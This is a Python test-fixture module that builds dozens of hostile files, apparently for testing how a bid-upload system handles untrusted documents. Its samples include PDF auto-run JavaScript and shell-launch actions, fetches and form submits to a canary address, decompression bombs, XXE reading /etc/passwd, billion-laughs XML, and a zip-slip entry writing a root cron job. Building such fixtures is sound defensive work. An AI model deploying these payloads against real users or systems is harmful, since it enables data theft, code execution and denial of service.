"""Hostile files, made here: what a bidder could seal to hurt whoever opens it. ``{canary}`` in them is an address nobody may ever ask."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def samples(canary: str) -> dict[str, bytes]:
    """name → bytes, at least thirty of them."""
    return {**_pdfs(canary), **_images(), **_texts(canary), **_packed(canary)}


def pdf(objects: dict[int, bytes], *, root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF of these objects, with a right cross-reference table."""
    out, at = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for number, body in objects.items():
        at[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start, most = out.tell(), max(objects)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (most + 1))
    for number in range(1, most + 1):
        out.write(b"%010d 00000 n \n" % at.get(number, 0))
    out.write(b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (most + 1, root, tail, start))
    return out.getvalue()


def page(
    content: bytes = b"",
    *,
    box: bytes = b"0 0 300 200",
    more: bytes = b"",
    catalog: bytes = b"",
    extra: dict[int, bytes] | None = None,
    stream: bytes | None = None,
) -> bytes:
    held = stream if stream is not None else b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content)
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, more),
            4: held,
            **(extra or {}),
        }
    )


def flate(data: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>\nstream\n%s\nendstream" % (len(packed), more, packed)


def bomb(size: int) -> bytes:
    """``size`` zero bytes, deflated piece by piece."""
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])


def _stream(packed: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d/Filter/FlateDecode%s>>\nstream\n%s\nendstream" % (len(packed), more, packed)


def _pdfs(canary: str) -> dict[str, bytes]:
    to = canary.encode()
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</X 5 0 R>>>>"
    looped = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 99999>>",
        3: b"<</Type/Pages/Kids[2 0 R]/Count 99999>>",
    }
    js = b"/OpenAction<</S/JavaScript/JS(app.launchURL('" + to + b"'); this.submitForm('" + to + b"');)>>"
    twice = _stream(zlib.compress(bomb(256 << 20), 9)).replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode]")
    good = page(b"0 0 m 300 200 l S")
    return {
        "javascript.pdf": page(catalog=js),
        "launch.pdf": page(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        "uri.pdf": page(catalog=b"/OpenAction<</S/URI/URI(" + to + b")>>"),
        "gotor.pdf": page(catalog=b"/OpenAction<</S/GoToR/F<</FS/URL/F(" + to + b")>>/D[0/Fit]>>"),
        "submit.pdf": page(more=b"/AA<</O<</S/SubmitForm/F(" + to + b")>>>>"),
        "xfa.pdf": page(
            catalog=b"/AcroForm<</XFA 5 0 R>>", extra={5: flate(b"<xdp><script>" + to + b"</script></xdp>")}
        ),
        "external-stream.pdf": page(stream=b"<</Length 0/F(/etc/passwd)/FFilter/ASCIIHexDecode>>\nstream\n\nendstream"),
        "huge-page.pdf": page(b"0 0 m 99999 99999 l S", box=b"0 0 999999 999999"),
        "no-page-at-all.pdf": pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        "negative-page.pdf": page(box=b"900 900 -900 -900"),
        "inflating-content.pdf": page(stream=_stream(bomb(512 << 20))),
        "twice-inflating.pdf": page(stream=twice),
        "huge-image.pdf": page(
            b"q 300 0 0 200 0 0 cm /X Do Q",
            more=b"/Resources<</XObject<</X 5 0 R>>>>",
            extra={5: _stream(bomb(64 << 20), image)},
        ),
        "form-in-itself.pdf": page(
            b"/X Do", more=b"/Resources<</XObject<</X 5 0 R>>>>", extra={5: flate(b"/X Do /X Do", form)}
        ),
        "pages-in-a-circle.pdf": pdf(looped),
        "deep-arrays.pdf": page(b"[" * 200_000),
        "deep-dictionaries.pdf": page(more=b"/A" + b"<</A" * 20_000 + b" 1 " + b">>" * 20_000),
        "many-lines.pdf": page(stream=flate(b"0 0 m 300 200 l S\n" * 3_000_000)),
        "endless-pattern.pdf": page(
            b"/Pattern cs /P scn 0 0 300 200 re f",
            more=b"/Resources<</Pattern<</P 5 0 R>>>>",
            extra={
                5: flate(
                    b"0 0 1 1 re f",
                    b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>",
                )
            },
        ),
        "truncated.pdf": good[: len(good) // 2],
        "only-a-head.pdf": b"%PDF-1.7\n",
        "wrong-offsets.pdf": good.replace(b"startxref\n", b"startxref\n9999999"),
        "polyglot.pdf": _zip({"a.txt": b"x"}) + good,
        "page-that-is-html.pdf": b"<html><script>fetch('" + to + b"')</script>\n" + good,
        "good.pdf": good,
    }


def _png(width: int, height: int, packed: bytes, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + more
        + chunk(b"IDAT", packed)
        + chunk(b"IEND", b"")
    )


def _images() -> dict[str, bytes]:
    def text_chunk(packed: bytes) -> bytes:
        body = b"c\0\0" + packed
        return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))

    tiff = (
        b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", 8)
    )  # a list of pages that leads back to itself
    return {
        "bomb.png": _png(50_000, 50_000, bomb(64 << 20)),
        "inflating.png": _png(10, 10, bomb(512 << 20)),
        "text-bomb.png": _png(1, 1, zlib.compress(b"\0\0\0\0"), text_chunk(bomb(512 << 20))),
        "cut.png": _png(800, 800, bomb(2 << 20))[:900],
        "zero.png": _png(0, 0, b""),
        "circle.tiff": tiff,
        "garbage.jpg": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 400,
        "huge.bmp": b"BM"
        + struct.pack("<IHHI", 100, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0),
        "garbage.webp": b"RIFF" + struct.pack("<I", 4000) + b"WEBPVP8 " + bytes(4000),
        "huge.gif": b"GIF89a"
        + struct.pack("<HH", 65_535, 65_535)
        + b"\x80\0\0"
        + b"\0\0\0\xff\xff\xff"
        + b","
        + struct.pack("<HHHH", 0, 0, 65_535, 65_535)
        + b"\0\x02\x02\x44\x01\0;",
    }


def _texts(canary: str) -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return {
        "xxe.svg": f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{canary}">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{canary}\')"><text>&x;&y;</text></svg>'.encode(),
        "laughs.xml": f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{laughs}]><l>&l11;</l>'.encode(),
        "script.html": f"<script>fetch('{canary}')</script><img src='{canary}'>".encode(),
        "long.txt": b"x" * (8 << 20),
        "bidi.txt": "报价‮0000001⁦\x1b[2J\x07".encode(),
        "broken.txt": b"\xff\xfe\x80\x81" * 1000 + b"end",
        "nul.bin": bytes(5000),
        "empty": b"",
    }


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _packed(canary: str) -> dict[str, bytes]:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    link = f'<Relationships><Relationship Id="r" Type="t" Target="{canary}" TargetMode="External"/></Relationships>'.encode()
    return {
        "bomb.zip": _zip({f"{n}.bin": bytes(20 << 20) for n in range(5)}),
        "nested.zip": _zip({"a.zip": _zip({"b.zip": _zip({"c": bytes(1 << 20)})})}),
        "slip.zip": _zip({"../../etc/cron.d/x": b"* * * * * root sh\n"}),
        "macro.docm": _zip(
            {"[Content_Types].xml": types, "word/document.xml": b"<d/>", "word/vbaProject.bin": b"AutoOpen Shell"}
        ),
        "template.docx": _zip({"[Content_Types].xml": types, "word/_rels/settings.xml.rels": link}),
        "macro.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "object.rtf": b"{\\rtf1{\\object\\objautlink " + b"41" * 2000 + b"}}",
    }
